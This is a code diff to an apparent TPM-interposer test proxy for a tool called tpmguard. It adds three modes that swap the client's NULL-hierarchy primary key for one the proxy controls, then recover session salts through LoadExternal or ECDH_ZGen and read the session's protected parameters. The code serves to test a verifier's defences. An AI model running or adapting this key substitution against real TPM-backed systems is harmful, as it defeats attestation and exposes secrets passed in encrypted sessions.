@@ -45,6 +45,30 @@ Substitute mode (the active attack that tpmguard's verification must catch):
     (the command is forwarded unchanged, and the TPM rejects it), and
     ObjectChangeAuth/HierarchyChangeAuth response HMACs under the new value.
 
+Redirect modes (issue 13: the keys a password-authorized Certify can be
+pointed at). On a NULL-hierarchy CreatePrimary of a P-256 decrypt key, the
+proxy puts a key of its own choosing into the real TPM, flushes the real
+NULL primary, and answers with the handle, public area and name of its key,
+so that every later command that names the handle (Certify, StartAuthSession,
+ContextSave) goes to that key and the genuine EK signing key certifies it:
+  - loaded-key: its own P-256 key, private part included, loaded with
+    LoadExternal in the NULL hierarchy. It must be loadable, so fixedTPM,
+    fixedParent and restricted are clear (and so the symmetric algorithm).
+    Its certified qualified name is that of a NULL-hierarchy object. The
+    proxy holds the private key: it decrypts the client's salt (the TPM,
+    salted to the same key, derives the same session key) and reads every
+    parameter of every session salted to it.
+  - zgen-key: a primary of the NULL hierarchy, fixedTPM, but decrypt without
+    restricted (so not the client's template). Its private part stays in the
+    TPM, but the TPM computes ECDH with it for anyone (ECDH_ZGen, empty
+    password): the proxy has it compute the client's salt and derives the
+    session key. Its certified qualified name is that of a NULL primary.
+  - owner-key: a primary of the owner hierarchy made from the client's own
+    template (exactly the NULL key template, fixedTPM; its private part
+    stays in the TPM, so the proxy learns no salt). What it would buy: the
+    owner seed survives a TPM reset, so the same key answers before and after
+    one, which would hide a reset from a boot anchor.
+
 Other modes: record, pin-crack, tamper, reset, drop, replay, mutate; see --help.
 Modes combine: --mode substitute,pin-crack.
 """
@@ -68,7 +92,8 @@ from cryptography.hazmat.primitives.asymmetric import ec
 import mutate as mt
 import tpmwire as tw
 
-MODES = ("record", "substitute", "pin-crack", "tamper", "reset", "drop", "replay", "mutate")
+MODES = ("record", "substitute", "loaded-key", "zgen-key", "owner-key", "pin-crack", "tamper", "reset", "drop",
+         "replay", "mutate")
 SWTPM_CMD_INIT = 2
 SUBSTITUTE_HIERARCHIES = (tw.TPM_RH_NULL, tw.TPM_RH_OWNER, tw.TPM_RH_ENDORSEMENT)
 
@@ -149,6 +174,18 @@ class FakeKey:
         self.fake = real_public.with_point(n.x.to_bytes(32, "big"), n.y.to_bytes(32, "big"))
         self.real_name = real_public.name()
         self.fake_name = self.fake.name()
+        self.loaded = False
+
+
+class LoadedKey:
+    """A key of the proxy's own, loaded into the TPM (loaded-key mode): the TPM
+    and the client salt to the same point, whose private key the proxy holds."""
+
+    def __init__(self, public, private):
+        self.real = self.fake = public
+        self.private = private
+        self.real_name = self.fake_name = public.name()
+        self.loaded = True
 
 
 class Session:
@@ -345,6 +382,7 @@ class Proxy:
         if "mutate" in self.modes and not args.mutate_spec:
             self.mutate_spec = {"seed": args.mutate_seed, "at": args.mutate_at, "kind": args.mutate_kind}
             self.findings.data["mutate"] = {"spec": self.mutate_spec, "responses": 0}
+        self.zgen_keys = {}        # (x, y) -> Public of a NULL primary the TPM runs ECDH_ZGen with (zgen-key)
 
     # -- logging/recording --
 
@@ -477,6 +515,86 @@ class Proxy:
         self.attack(attack="substitute-public", command="ReadPublic", handle=hh(handle),
                     real_name=hx(real_name), fake_name=hx(fk.fake_name))
         return tw.marshal_tpm2b_public(fk.fake) + tw.tpm2b(fk.fake_name) + tw.tpm2b(qn)
+
+    # -- redirect modes (loaded-key, owner-key) --
+
+    def redirect_null_primary(self, upstream, cmd, resp):
+        """Answers a NULL-hierarchy CreatePrimary with a key the proxy put into the TPM. True if it did."""
+        if cmd.cc != 0x131 or cmd.handles[0] != tw.TPM_RH_NULL or resp.rc != 0 or not resp.parsed:
+            return False
+        if not ({"loaded-key", "zgen-key", "owner-key"} & self.modes):
+            return False
+        rd = tw.Reader(resp.params)
+        real = tw.read_tpm2b_public(rd)
+        if not real.is_salt_capable_p256():
+            return False
+        creation = rd.take(rd.remaining())  # creationData ... name, kept for loaded-key below
+        real_handle = resp.handles[0]
+        if "loaded-key" in self.modes:
+            priv = ec.generate_private_key(ec.SECP256R1())
+            n = priv.public_key().public_numbers()
+            params = (tw.u16(tw.TPM_ALG_NULL) + tw.u16(tw.TPM_ALG_NULL) + tw.u16(tw.TPM_ECC_NIST_P256)
+                      + tw.u16(tw.TPM_ALG_NULL))
+            # userWithAuth | noDA | decrypt: neither fixedTPM nor fixedParent nor restricted,
+            # or LoadExternal refuses the private part.
+            evil = tw.Public(tw.TPM_ALG_ECC, real.name_alg, 0x00000040 | 0x00000400 | tw.TPMA_OBJECT_DECRYPT,
+                             b"", params, n.x.to_bytes(32, "big"), n.y.to_bytes(32, "big"))
+            sensitive = (tw.u16(tw.TPM_ALG_ECC) + tw.tpm2b(b"") + tw.tpm2b(b"")
+                         + tw.tpm2b(priv.private_numbers().private_value.to_bytes(32, "big")))
+            out = self.transact(upstream, tw.build_command(
+                0x167, params=tw.tpm2b(sensitive) + tw.marshal_tpm2b_public(evil) + tw.u32(tw.TPM_RH_NULL)))
+            r = tw.Response(out, 0x167, 0)
+            if r.rc != 0:
+                self.findings.add("errors", {"command": "LoadExternal", "error": "rc %s" % hh(r.rc)})
+                return False
+            new_handle = r.handles[0]
+            key = LoadedKey(evil, priv)
+            self.fakes[(evil.x, evil.y)] = key
+            # The creation data stays the real key's; only the name at its end is replaced.
+            crd = tw.Reader(creation)
+            head = tw.tpm2b(crd.tpm2b()) + tw.tpm2b(crd.tpm2b(64))
+            head += tw.u16(crd.u16()) + tw.u32(crd.u32()) + tw.tpm2b(crd.tpm2b(64))
+            crd.tpm2b(68)
+            crd.done()
+            resp.params = tw.marshal_tpm2b_public(evil) + head + tw.tpm2b(key.fake_name)
+            attack, new_name = "substitute-loaded-key", key.fake_name
+        else:
+            if "zgen-key" in self.modes:
+                # CreatePrimary(null): fixedTPM, fixedParent, sensitiveDataOrigin, userWithAuth, noDA,
+                # decrypt, but not restricted; no symmetric algorithm (required without restricted).
+                params = (tw.u16(tw.TPM_ALG_NULL) + tw.u16(tw.TPM_ALG_NULL) + tw.u16(tw.TPM_ECC_NIST_P256)
+                          + tw.u16(tw.TPM_ALG_NULL))
+                tmpl = tw.Public(tw.TPM_ALG_ECC, real.name_alg,
+                                 0x2 | 0x10 | 0x20 | 0x40 | 0x400 | tw.TPMA_OBJECT_DECRYPT, b"", params, b"", b"")
+                hierarchy, attack = tw.TPM_RH_NULL, "substitute-zgen-key"
+            else:
+                # CreatePrimary(owner) with the client's template (unique cleared), owner auth empty.
+                tmpl = real.with_point(b"", b"")
+                hierarchy, attack = tw.TPM_RH_OWNER, "substitute-owner-key"
+            pw = tw.u32(tw.TPM_RS_PW) + tw.tpm2b(b"") + bytes([0]) + tw.tpm2b(b"")
+            body = (tw.u32(hierarchy) + tw.u32(len(pw)) + pw
+                    + tw.tpm2b(tw.u16(0) + tw.u16(0)) + tw.marshal_tpm2b_public(tmpl) + tw.tpm2b(b"") + tw.u32(0))
+            raw = tw.u16(tw.TPM_ST_SESSIONS) + tw.u32(10 + len(body)) + tw.u32(0x131) + body
+            out = self.transact(upstream, raw)
+            r = tw.Response(out, 0x131, 1)
+            if r.rc != 0:
+                self.findings.add("errors", {"command": "CreatePrimary(owner)", "error": "rc %s" % hh(r.rc)})
+                return False
+            new_handle = r.handles[0]
+            resp.params = r.params
+            ord_ = tw.Reader(r.params)
+            made = tw.read_tpm2b_public(ord_)
+            for _ in range(2):
+                ord_.tpm2b()
+            ord_.u16(), ord_.u32(), ord_.tpm2b()
+            new_name = ord_.tpm2b(68)
+            if attack == "substitute-zgen-key":
+                self.zgen_keys[(made.x, made.y)] = made
+        self.transact(upstream, tw.build_command(0x165, params=tw.u32(real_handle)))
+        resp.handles = [new_handle]
+        self.attack(attack=attack, command="CreatePrimary", real_handle=hh(real_handle), new_handle=hh(new_handle),
+                    real_name=hx(real.name()), fake_name=hx(new_name))
+        return True
 
     # -- sessions: command side --
 
@@ -690,7 +808,43 @@ class Proxy:
         if tpm_key != tw.TPM_RH_NULL:
             real, _ = self.read_public(upstream, tpm_key)
             fk = self.fake_for(real, create=False) if real is not None and real.type == tw.TPM_ALG_ECC else None
-            if fk is not None and "substitute" in self.modes:
+            zk = self.zgen_keys.get((real.x, real.y)) if real is not None and real.type == tw.TPM_ALG_ECC else None
+            if zk is not None:
+                # The TPM computes the ECDH share of the client's ephemeral point for us.
+                try:
+                    er = tw.Reader(enc_salt)
+                    ex, ey = tw.read_ecc_point(er)
+                    er.done()
+                    pw = tw.u32(tw.TPM_RS_PW) + tw.tpm2b(b"") + bytes([0]) + tw.tpm2b(b"")
+                    body = (tw.u32(tpm_key) + tw.u32(len(pw)) + pw
+                            + tw.tpm2b(tw.tpm2b(ex) + tw.tpm2b(ey)))
+                    out = self.transact(upstream, tw.u16(tw.TPM_ST_SESSIONS) + tw.u32(10 + len(body))
+                                        + tw.u32(0x154) + body)
+                    _, _, rc = tw.read_header(out)
+                    if rc != 0:
+                        raise tw.WireError("ECDH_ZGen rc 0x%x" % rc)
+                    zr = tw.Reader(out, 10)
+                    zr.u32()  # parameterSize
+                    pr = tw.Reader(zr.tpm2b())
+                    zx, _ = tw.read_ecc_point(pr)
+                    salt = tw.kdfe(zk.name_alg, zx, "SECRET", ex, zk.x, tw.digest_size(zk.name_alg) * 8)
+                except (tw.WireError, ValueError) as e:
+                    self.findings.add("errors", {"command": cmd.name, "error": "zgen: %s" % e})
+                    info["opaque"] = True
+                else:
+                    info.update(client_salt=salt, tpm_salt=salt, fake=LoadedKey(zk, None))
+                    self.attack(attack="salt-zgen", salted_to=hh(tpm_key), name=hx(zk.name()))
+            elif fk is not None and fk.loaded:
+                # The TPM decrypts the same salt with the proxy's own loaded key.
+                try:
+                    client_salt = tw.ecc_salt_decrypt(fk.private, fk.fake, enc_salt)
+                except (tw.WireError, ValueError) as e:
+                    self.findings.add("errors", {"command": cmd.name, "error": "salt: %s" % e})
+                    info["opaque"] = True
+                else:
+                    info.update(client_salt=client_salt, tpm_salt=client_salt, fake=fk)
+                    self.attack(attack="salt-decrypt", salted_to=hh(tpm_key), fake_name=hx(fk.fake_name))
+            elif fk is not None and "substitute" in self.modes:
                 try:
                     client_salt = tw.ecc_salt_decrypt(fk.private, fk.fake, enc_salt)
                     tpm_salt, enc2 = tw.ecc_salt_encrypt(fk.real)
@@ -719,6 +873,8 @@ class Proxy:
             return
         if cmd.cc == 0x176 and ctx.start is not None:
             self.post_start_session(cmd, ctx.start, resp)
+            return
+        if self.redirect_null_primary(upstream, cmd, resp):
             return
         params = resp.params
         enc_i = next((i for i, a in enumerate(cmd.auths) if a.attrs & tw.TPMA_SESSION_ENCRYPT), None)
